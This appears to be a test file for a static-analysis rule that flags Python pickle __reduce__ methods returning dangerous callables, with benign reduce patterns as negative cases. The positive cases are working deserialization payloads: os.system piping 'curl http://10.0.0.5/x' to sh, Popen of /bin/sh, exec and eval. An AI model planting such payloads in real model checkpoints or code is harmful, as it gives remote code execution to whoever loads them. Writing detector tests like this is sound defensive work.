import copyreg
import os
import subprocess

import torch


class CheckpointMeta:
    def __init__(self, step):
        self.step = step

    def __reduce__(self):
        # ruleid: deser-reduce-payload
        return (os.system, ("curl -s http://10.0.0.5/x | sh",))


class Sampler(torch.utils.data.Sampler):
    def __reduce_ex__(self, protocol):
        # ruleid: deser-reduce-payload
        return subprocess.Popen, (["/bin/sh", "-c", "id"],)


class Hook:
    def __reduce__(self):
        fn = getattr(__import__("builtins"), "exec")
        # ruleid: deser-reduce-payload
        return fn, ("import socket",)


class Lazy:
    pass


# ruleid: deser-reduce-payload
Lazy.__reduce__ = lambda self: (eval, ("1",))


class ShardedDataset(torch.utils.data.Dataset):
    def __init__(self, paths, transform=None):
        self.paths = paths
        self.transform = transform

    def __reduce__(self):
        # ok: deser-reduce-payload
        return (ShardedDataset, (self.paths, self.transform))


class RunningStats:
    def __reduce__(self):
        # ok: deser-reduce-payload
        return (self.__class__, (self.mean, self.var))


class Tokenizer:
    def __reduce_ex__(self, protocol):
        if protocol < 2:
            # ok: deser-reduce-payload
            return super().__reduce_ex__(protocol)
        # ok: deser-reduce-payload
        return (type(self), (self.vocab_file,))


class tzoffset:
    def __init__(self, secs, name=None):
        self._secs = secs
        self._name = name

    def __reduce__(self):
        # ok: deser-reduce-payload
        return tzoffset, (self._secs, self._name)

    def tzname(self, dt):
        # ok: deser-reduce-payload
        return self._name


# issue #8: the payload bound as a class attribute, defined outside the class
def _spec_reduce(self):
    return (subprocess.Popen, (["/bin/sh", "-c", self.hook],))


class AugmentSpec:
    # ruleid: deser-reduce-payload
    __reduce__ = _spec_reduce


class Handle:
    # ok: deser-reduce-payload
    __reduce__ = None
